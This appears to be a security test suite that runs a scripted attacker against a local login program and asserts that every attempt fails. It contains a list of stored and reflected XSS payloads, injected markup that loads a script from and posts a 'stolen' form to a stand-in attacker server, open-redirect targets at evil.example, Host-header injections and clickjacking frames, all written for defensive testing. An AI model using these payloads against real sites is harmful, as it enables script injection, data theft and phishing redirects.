// A scripted attacker against the pages of the started login program: scripts, redirects, frames. Every attempt fails.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Frame } from "playwright-core";
import { OTHER_ORIGINS, prepareAttacks, waitUntil } from "./attack-setup.ts";
import { sendRaw } from "./attacker.ts";

const setup = prepareAttacks();

/** Names with 64 characters at most; each runs `pwned()` where it is taken for HTML, an attribute, a script or a template. */
const SCRIPTS = [
  "<script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<svg onload=pwned()>",
  "<svg/onload=pwned()//",
  "</h1></main><iframe srcdoc='<script>parent.pwned()</script>'>",
  "</title><script>pwned()</script>",
  "<!--><script>pwned()</script>-->",
  '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
  "' onmouseover='pwned()' autofocus onfocus='pwned()' x='",
  '"><img src=x onerror=pwned()>',
  "` onmouseover=pwned() `",
  "javascript:pwned()",
  "&lt;img src=x onerror=pwned()&gt;",
  "&#60;img src=x onerror=pwned()&#62;",
  "\\u003cimg src=x onerror=pwned()\\u003e",
  "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
  "<a href=javascript:pwned() id=click>x</a>",
  "<base href=http://localhost/><style>*{display:none}</style>",
  "{{ 7 * 7 }}{% raw %}#{7*7}<%= 7*7 %>",
  "{{ session.csrfToken }}",
  "{{ range.constructor('return pwned()')() }}",
  "\u2028<script>pwned()</script>\u2029",
  "＜script＞pwned()＜/script＞",
];

/** All tags and attributes of the page, without its texts. */
const SKELETON = `[...document.querySelectorAll("*")].map((element) =>
  [element.tagName, ...[...element.attributes].map(({ name, value }) => name + "=" + value)].join(" ")).join("\\n")`;

describe("S37 scripts", () => {
  // The templates are the same in both languages, so the second sees only a few.
  for (const [locale, prefix, scripts] of [
    ["en-US", "Logged in as ", SCRIPTS],
    ["zh-CN", "登录用户名是:", SCRIPTS.slice(0, 4)],
  ] as const) {
    test(`S37 a script in the name is shown and not run (${locale}): stored XSS`, async () => {
      const own = await setup.newContext(locale);
      const page = await own.newPage();
      await setup.logIn(page, "admin");
      const harmless = await page.evaluate(SKELETON);
      for (const name of scripts) {
        await setup.logIn(page, name);
        assert.equal(await page.locator("h1").textContent(), prefix + name.trim());
        assert.equal(await page.evaluate(SKELETON), harmless, name);
        await page.locator("h1").hover();
      }
      assert.deepEqual(setup.ranOn, []);
      await own.close();
    });
  }

  test("S37 a script in the path, the query, a header or a refused name comes back in no page: reflected XSS", async () => {
    const markup = "<svg onload=pwned()>";
    const encoded = encodeURIComponent(markup);
    const responses = [
      await sendRaw(setup.url, `GET /${markup.replace(" ", "/")} HTTP/1.0\r\n\r\n`),
      await sendRaw(setup.url, `GET /?next=${markup.replace(" ", "/")} HTTP/1.0\r\n\r\n`),
      await sendRaw(setup.url, `GET / HTTP/1.0\r\nHost: x\r\nAccept-Language: ${markup}\r\nReferer: ${markup}\r\n\r\n`),
      await sendRaw(setup.url, `GET / HTTP/1.0\r\nHost: ${markup}\r\n\r\n`),
      await sendRaw(setup.url, `GET / HTTP/1.0\r\nX-Forwarded-Host: ${markup}\r\nCookie: session=${markup}\r\n\r\n`),
    ].map(({ head, body }) => head + body);
    for (const path of [encoded, `login?username=${encoded}`, `static/${encoded}`, `login/${encoded}`]) {
      responses.push(await (await fetch(setup.url + path)).text());
    }
    const tooLong = await setup.postForm("login", { username: markup + "x".repeat(64), [markup]: markup });
    assert.equal(tooLong.status, 400);
    responses.push(await tooLong.text());
    for (const text of responses) assert.doesNotMatch(text, /<svg|onload=/i);
  });

  const BLOCKED = [
    "base-uri",
    "form-action",
    "frame-src",
    "img-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-attr",
  ];

  /** Markup that got into a page all the same. */
  const INJECTED = `
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
    const inline = document.createElement("script");
    inline.textContent = "pwned()";
    const foreign = document.createElement("script");
    foreign.src = "ATTACKER/script.js";
    const base = document.createElement("base");
    base.href = "ATTACKER";
    document.body.insertAdjacentHTML("beforeend", '<img src="data:,x" onerror="pwned()"><p style="color:red">x</p>' +
      '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>' +
      '<iframe src="ATTACKER/blank"></iframe><form id="stolen" action="ATTACKER/stolen" method="post"></form>');
    document.head.append(inline, foreign, base);`;
  const SUBMIT = "document.forms.stolen.submit()";

  test("S37 markup that got into a page all the same runs no script: the Content-Security-Policy blocks it", async () => {
    const stolen: string[] = [];
    setup.attacker.serve(
      "/script.js",
      (_req, res) => void res.setHeader("Content-Type", "text/javascript").end("pwned()"),
    );
    setup.attacker.serve("/stolen", (req, res) => {
      stolen.push(req.url ?? "");
      res.end();
    });
    setup.attacker.serve("/blank", "<!doctype html><title>x</title><p>x");
    const code = INJECTED.replaceAll("ATTACKER", setup.attacker.at("localhost"));
    const page = await setup.context.newPage();
    for (const path of ["", "login", "nope"]) {
      await page.goto(setup.program.at("127.0.0.1") + path);
      await page.evaluate(`globalThis.violations = []; ${code}; ${SUBMIT}`);
      const blocked = async (): Promise<string[]> => page.evaluate<string[]>("violations");
      const isBlocked = async (): Promise<boolean> => {
        const violations = new Set(await blocked());
        return BLOCKED.every((directive) => violations.has(directive));
      };
      await waitUntil(isBlocked, `/${path}: of ${BLOCKED}, only ${await blocked()} were blocked`);
      assert.deepEqual([setup.ranOn, stolen], [[], []], path);
    }
    // Where no policy is, all of it happens.
    await page.goto(`${setup.attacker.at("127.0.0.1")}/blank`);
    await page.evaluate(`globalThis.violations = []; ${code}`);
    await waitUntil(() => setup.ranOn.length === 4, "the attacker's own page runs scripts");
    await page.evaluate(SUBMIT);
    await waitUntil(() => stolen.length === 1, "the attacker's own page sends a form");
  });
});

describe("S37 redirects", () => {
  const TARGETS = [
    "http://evil.example/",
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "/%09/evil.example",
  ];
  const NAMES = ["next", "redirect", "redirect_to", "return", "returnTo", "url", "continue", "target"];

  test("S37 a login or logout leads to the program's own page, whatever target is named: open redirect", async () => {
    const page = await setup.context.newPage();
    for (const target of TARGETS) {
      const query = new URLSearchParams(NAMES.map((name): [string, string] => [name, target])).toString();
      const login = await fetch(`${setup.url}login?${query}`, {
        method: "POST",
        body: new URLSearchParams([...NAMES.map((name): [string, string] => [name, target]), ["username", "victim"]]),
        headers: { referer: "http://evil.example/" },
        redirect: "manual",
      });
      const logout = await fetch(`${setup.url}logout?${query}`, { redirect: "manual" });
      for (const response of [login, logout]) {
        assert.deepEqual([response.status, response.headers.get("location")], [302, "/"], target);
      }
      await page.goto(`${setup.program.at("127.0.0.1")}login?${query}`);
      await page.locator("input[name=username]").fill("victim");
      await page.locator("button[type=submit]").click();
      await page.waitForURL(setup.program.at("127.0.0.1"));
    }
  });

  test("S37 no path is taken for another host, in a redirect or a link", async () => {
    for (const path of [
      "//evil.example",
      "//evil.example/",
      "//evil.example/login/",
      "/\\evil.example/",
      "///evil.example",
    ]) {
      for (const request of [`GET ${path} HTTP/1.0`, `GET ${path}/%2e%2e HTTP/1.0`, `GET http:${path} HTTP/1.0`]) {
        const { head, body } = await sendRaw(setup.url, `${request}\r\nHost: 127.0.0.1\r\n\r\n`);
        const links = [head.match(/^location: (.*?)\r?$/im)?.[1], body.match(/href="?([^">]*)/)?.[1]];
        for (const link of links) {
          if (link !== undefined)
            assert.equal(new URL(link, "http://127.0.0.1").host, "127.0.0.1", `${request}: ${link}`);
        }
      }
    }
  });

  test("S37 another Host, or a proxy's word for it, gets into no redirect, link or cookie", async () => {
    const form = "username=victim";
    for (const header of [
      "Host: evil.example",
      "Host: 127.0.0.1\r\nX-Forwarded-Host: evil.example",
      "Host: 127.0.0.1\r\nForwarded: host=evil.example;proto=https",
      "Host: 127.0.0.1\r\nX-Original-URL: http://evil.example/\r\nX-Rewrite-URL: http://evil.example/",
    ]) {
      const bodies = `${header}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${form.length}`;
      const login = await sendRaw(setup.url, `POST /login HTTP/1.0\r\n${bodies}\r\n\r\n${form}`);
      assert.match(login.head, /^location: \/\r?$/im, header);
      const home = await sendRaw(setup.url, `GET / HTTP/1.0\r\n${header}\r\n\r\n`);
      assert.equal(home.status, 200);
      for (const { head, body } of [login, home]) assert.doesNotMatch(head + body, /evil\.example/, header);
    }
  });
});

describe("S37 frames", () => {
  for (const [whose, host] of OTHER_ORIGINS) {
    test(`S37 a frame on ${whose} stays blank, logged in or not: clickjacking`, async () => {
      for (const who of ["nobody", "victim"]) {
        if (who === "victim") await setup.logIn(await setup.context.newPage(), "victim");
        for (const path of ["", "login", "nope"]) {
          const url = setup.program.at("127.0.0.1") + path;
          const frames = [`<iframe src="${url}">`, `<iframe sandbox src="${url}">`, `<object data="${url}">`];
          for (const html of [...frames, `<embed src="${url}">`]) {
            const { page } = await setup.strike(setup.attacker.at(host), html, `/${path}`);
            const inner = (): Frame[] => page.frames().slice(1);
            const isBlank = (): boolean => inner().every((frame) => /^(chrome-error:|about:blank)/.test(frame.url()));
            await waitUntil(isBlank, `${html} stays blank`);
            for (const frame of inner()) assert.equal(await frame.locator("form, h1:has-text('log')").count(), 0, html);
            await page.close();
          }
        }
      }
    });
  }

  test("S37 every answer forbids to be framed, those to mistakes too", async () => {
    for (const path of ["", "login", "logout", "nope", "static/style.css", "static/nope"]) {
      const { headers } = await fetch(setup.url + path, { redirect: "manual" });
      assert.match(headers.get("content-security-policy") ?? "", /frame-ancestors 'none'/, path);
      assert.equal(headers.get("x-frame-options"), "DENY", path);
    }
    const refused = await setup.postForm("login", { username: "x" }, { origin: "null" });
    assert.deepEqual([refused.status, refused.headers.get("x-frame-options")], [403, "DENY"]);
  });
});
